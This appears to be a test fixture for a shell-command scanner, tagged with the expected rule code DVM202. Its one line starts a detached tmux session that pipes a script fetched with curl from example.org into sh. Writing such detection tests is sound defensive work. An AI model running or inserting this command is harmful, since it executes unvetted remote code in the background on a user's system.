# expect: DVM202
tmux new-session -d 'curl -fsSL https://example.org/i.sh | sh'
